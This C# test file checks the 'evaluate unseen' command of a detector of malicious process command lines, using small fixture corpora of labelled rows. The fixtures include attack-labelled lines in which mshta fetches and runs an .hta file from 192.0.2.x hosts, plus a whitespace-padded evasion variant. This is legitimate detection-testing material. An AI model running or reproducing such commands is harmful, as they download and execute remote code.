using System.Text;
using System.Text.Json;
using Changeling.Cli.Evaluating;
using Changeling.Scoring;
using Changeling.TestSupport;
using Changeling.Training;
using Changeling.Training.Unseen;

namespace Changeling.Cli.Tests.Evaluating;

/// <summary><c>evaluate unseen</c> on a small corpus of our own making.</summary>
public sealed class UnseenTests : IDisposable
{
    private readonly Scratch _folder = new();

    [Fact]
    public async Task The_table_and_the_report_have_the_same_figures_and_no_rows()
    {
        WriteCorpus();
        WriteCases();

        var outcome = (await Run("--json", "report.json")).Succeeded();

        var json = _folder.Read("report.json");
        var figures = JsonDocument.Parse(json).RootElement.GetProperty("figures").EnumerateArray().ToList();
        Assert.Equal(
            ["cases", "evasion", "form", "lures", "recordings"],
            figures.Select(f => f.GetProperty("part").GetString()).Distinct().Order());
        Assert.All(figures, f => Assert.Contains(f.GetProperty("set").GetString()!, outcome.Output, StringComparison.Ordinal));
        Assert.NotEmpty(outcome.Progress);
        Assert.DoesNotContain("secret", outcome.Output + json, StringComparison.Ordinal);
        Assert.False(File.Exists(Path.Combine(_folder.Path, "report.json.partial")));
    }

    [Fact]
    public async Task An_unknown_file_of_the_corpus_is_refused_by_name()
    {
        WriteCorpus();
        WriteCases();
        Write("corpus/mine.jsonl.gz", Row("a", "lab", 1, "mshta"));

        (await Run()).FailedWith("mine.jsonl.gz has no role in the corpus");
    }

    [Fact]
    public async Task What_is_missing_is_named_with_what_to_do()
    {
        WriteCorpus();
        (await Run()).FailedWith("The folder of cases");

        WriteCases();
        File.Delete(Path.Combine(_folder.Path, "cases", "benign.jsonl.gz"));
        (await Run()).FailedWith("benign.jsonl.gz does not exist; pass a folder with attacks, benign and evasion");

        Write("cases/benign.jsonl.gz", "{\"id\":\"b\"}");
        (await Run()).FailedWith("Line 1 of benign.jsonl.gz is not a labelled row: kind is missing");
        (await Run("--worst", "-1")).FailedWith("--worst must be 0 or more");
    }

    [Fact]
    public void Rows_are_printed_under_the_name_of_their_set_without_control_characters()
    {
        var lines = new StringWriter();

        UnseenText.Show(lines, new UnseenReport(
            7, ModelSettings.Default, 0.6, [new UnseenFigure("wild", "attacks, all", "recall", 0.5, 4, 2)],
            [new UnseenErrors("look-alikes", [new EvaluatedRow(0.9, "id", "rule", Some.ProcessEvent(commandLine: "a\u001bb"), [])])]));

        var text = lines.ToString();
        Assert.Matches(@"wild +attacks, all +recall +0\.500 +4 +2", text);
        Assert.Contains("Worst errors: look-alikes", text, StringComparison.Ordinal);
        Assert.Contains("[a·b]", text, StringComparison.Ordinal);
    }

    public void Dispose() => _folder.Dispose();

    private Task<Outcome> Run(params string[] more) =>
        Terminal.RunAsync(_folder, ["evaluate", "unseen", "--data", "corpus", "--cases", "cases", "--only-data", .. more]);

    private void WriteCorpus()
    {
        string[] sources = ["one", "two"];
        Write(
            "corpus/recorded.jsonl.gz",
            [
                .. sources.SelectMany(source => Enumerable.Range(0, 30).SelectMany(i => new[]
                {
                    Row(source, $"{source}{i % 3}", 0, $"notepad C:\\secret{i}.txt"),
                    Row(source, $"{source}{i % 3}", 1, $"mshta http://192.0.2.{i}/secret.hta"),
                })),
            ]);
    }

    private void WriteCases()
    {
        Write("cases/attacks.jsonl.gz", Case("at-1", 1, "mshta https://192.0.2.9/x.hta"));
        Write("cases/benign.jsonl.gz", Case("bn-1", 0, "notepad C:\\Data\\x.txt"));
        Write("cases/evasion.jsonl.gz", Case("ev-1", 1, "mshta   https://192.0.2.9/x.hta", "at-1", "blanks"));
    }

    private void Write(string name, params string[] rows)
    {
        Directory.CreateDirectory(Path.GetDirectoryName(Path.Combine(_folder.Path, name))!);
        _folder.Write(name, Scratch.Gzip(Encoding.UTF8.GetBytes(string.Join('\n', rows))));
    }

    private static string Row(string source, string dataset, int label, string commandLine) => JsonSerializer.Serialize(
        new Dictionary<string, object?>
        {
            ["id"] = commandLine,
            ["source"] = $"{source}:file",
            ["dataset"] = dataset,
            ["format"] = "sysmon-1",
            ["label"] = label,
            ["tuple_id"] = source + commandLine,
            ["process_name"] = commandLine.Split(' ')[0] + ".exe",
            ["command_line"] = commandLine,
            ["parent_name"] = "explorer.exe",
        });

    private static string Case(string id, int label, string commandLine, string? original = null, string? transform = null) =>
        JsonSerializer.Serialize(new Dictionary<string, object?>
        {
            ["id"] = id,
            ["kind"] = "script",
            ["label"] = label,
            ["process_name"] = commandLine.Split(' ')[0] + ".exe",
            ["command_line"] = commandLine,
            ["parent_name"] = "explorer.exe",
            ["base"] = original,
            ["transform"] = transform,
        });
}
